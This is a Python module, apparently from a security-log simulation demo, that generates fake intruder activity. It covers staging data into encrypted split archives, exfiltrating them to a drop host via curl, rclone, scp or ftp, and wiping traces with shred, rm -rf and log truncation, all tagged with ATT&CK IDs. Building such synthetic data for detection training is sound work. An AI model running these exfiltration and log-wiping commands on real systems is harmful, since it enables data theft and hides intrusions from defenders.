"""Packing what was gathered, sending it out, and wiping traces."""

from __future__ import annotations

from amends.demo.logs.clocks import MINUTE, SECOND
from amends.demo.logs.deeds import Deeds

CACHE = "/var/tmp/.cache"  # noqa: S108 - a path in a log, not one we use


def place(deeds: Deeds) -> tuple[str, str]:
    """Return the host where data is gathered, and the account used there."""
    last = deeds.story.hops[-1]
    return last.key, last.user


def pack(deeds: Deeds, number: int, at: int, size: int, ratio: float) -> None:
    """Pack what was gathered into an archive of parts."""
    story, estate = deeds.story, deeds.estate
    host, user = place(deeds)
    label = deeds.step(f"stage-{number}", "staging", at, estate[host].name, estate[host].name, user,
                        "T1560.001" if story.packer != "tar" else "T1074.001", story.packer)  # fmt: skip
    shell = deeds.scene.linux[host]
    folder = CACHE
    packed = max(int(size * ratio), 4_000)
    piece = max(packed // deeds.chance.randrange(3, 9), 2_000)
    name = f"{folder}/{deeds.chance.choice(('b', 'upd', 'log', 'sys'))}{number}"
    if story.packer == "7z":
        commands = [
            f"7z a -mhe=on -p{'x' * 9} -v{piece // 1000 + 1}k {name}.7z {folder}/crm.dump {folder}/arch.sql"
        ]
    elif story.packer == "gpg":
        commands = [
            f"tar -czf {name}.tgz {folder}",
            f"gpg --batch --symmetric --cipher-algo AES256 -o {name}.gpg {name}.tgz",
        ]
        commands.append(f"split -b {piece} {name}.gpg {name}.gpg.")
    else:
        commands = [f"tar -czf {name}.tgz {folder}", f"split -b {piece} {name}.tgz {name}.tgz."]
    for number_of, command in enumerate(commands):
        shell.run(at + number_of * 40 * SECOND, user, command, label)
    shell.run(at + 3 * MINUTE, user, f"ls -la {folder}", label)
    deeds.staged[label] = packed
    deeds.pieces[label] = (name, piece)


def leave(deeds: Deeds, number: int, at: int, *, last: bool) -> None:
    """Send the archives out over the last nights; then wipe traces."""
    first_night = number == 1
    if first_night and not last:
        at = _send(deeds, 1, at)
    else:
        for part in (1, 2) if first_night else (2,):
            if f"stage-{part}" not in deeds.sent:
                at = _send(deeds, part, at) + 2 * MINUTE
    if last:
        _wipe(deeds, at + 6 * MINUTE)


def _send(deeds: Deeds, part: int, at: int) -> int:
    """Send one archive, piece by piece, throttled."""
    story, estate, scene = deeds.story, deeds.estate, deeds.scene
    host, user = place(deeds)
    drop = story.drops[(part - 1) % len(story.drops)]
    technique = {"rclone": "T1567.002", "ftp": "T1048.003", "scp": "T1048.002"}.get(
        story.tool, "T1048.002"
    )
    label = deeds.step(
        f"exfil-{part}", "exfiltration", at, estate[host].name, drop, user, technique, story.tool
    )
    name, piece = deeds.pieces[f"stage-{part}"]
    left = deeds.staged[f"stage-{part}"]
    rate = deeds.chance.randrange(150_000, 600_000)
    budget = 85 * MINUTE
    rate = max(rate, left * SECOND // budget)
    shell = scene.linux[host]
    commands = {
        "curl": f"curl -sk --limit-rate {rate // 1000}k -T {name}.part https://{drop}/u/",
        "rclone": f"rclone copy --bwlimit {rate // 1000}k {name}.part store:drop",
        "scp": f"scp -l {rate // 125} {name}.part u@{drop}:in/",
        "ftp": f"ftp -n {drop}",
    }
    shell.run(at - SECOND, user, commands[story.tool], label)
    port = {"scp": 22, "ftp": 21}.get(story.tool, 443)
    source = estate[host].ip
    while left > 0:
        octets = min(piece, left)
        left -= octets
        seconds = octets / rate + 0.5
        if story.tool == "ftp":
            scene.connect(at, seconds + 2, source, drop, 21, 600, 900, label)
            scene.connect(
                at + SECOND,
                seconds,
                source,
                drop,
                deeds.chance.randrange(40_000, 60_000),
                int(octets * 1.02) + 300,
                4_000,
                label,
            )
        else:
            scene.connect(
                at,
                seconds,
                source,
                drop,
                port,
                int(octets * 1.025) + 3_000,
                octets // 60 + 4_000,
                label,
            )
        at += int(seconds * SECOND) + deeds.chance.randrange(2, 9) * SECOND
    deeds.sent[f"stage-{part}"] = drop
    return at


def _wipe(deeds: Deeds, at: int) -> None:
    """Clear a log and a history."""
    story, estate, scene = deeds.story, deeds.estate, deeds.scene
    host, user = place(deeds)
    label = deeds.step("wipe-history", "defense_evasion", at, estate[story.wiped].name, estate[story.wiped].name,
                        next(hop.user for hop in story.hops if hop.key == story.wiped), "T1070.003",
                          "history")  # fmt: skip
    wiped = scene.linux[story.wiped]
    owner = next(hop.user for hop in story.hops if hop.key == story.wiped)
    wiped.run(at, owner, f"shred -u /home/{owner}/.bash_history", label)
    wiped.histories[owner] = [entry for entry in wiped.histories.get(owner, []) if entry[0] > at]
    scene.linux[host].run(at + MINUTE, user, "rm -rf /var/tmp/.cache", label)
    at += 3 * MINUTE
    windows = story.cleared == "admin"
    technique = "T1070.001" if windows else "T1070.002"
    cleared = next(hop.user for hop in story.hops if hop.key == story.cleared)
    label = deeds.step("clear-log", "defense_evasion", at, estate[story.cleared].name, estate[story.cleared].name,
                        cleared, technique, "clear")  # fmt: skip
    if windows:
        scene.windows["admin"].cleared(at, cleared, "0x1b7a31", label)
        scene.windows["admin"].log.lost.append((0, at))
    else:
        machine = scene.linux[story.cleared]
        part = max(span.start for span in machine.auth.spans if span.start <= at)
        name = machine.auth.spans[-1].name.split("/", 1)[1]
        machine.run(at, cleared, f"truncate -s 0 /{name}", label)
        machine.sudo(at + SECOND, cleared, f"/usr/bin/truncate -s 0 /{name}", label)
        machine.auth.lost.append((part, at + 1_500_000))
    deeds.cleared = (story.cleared, at)
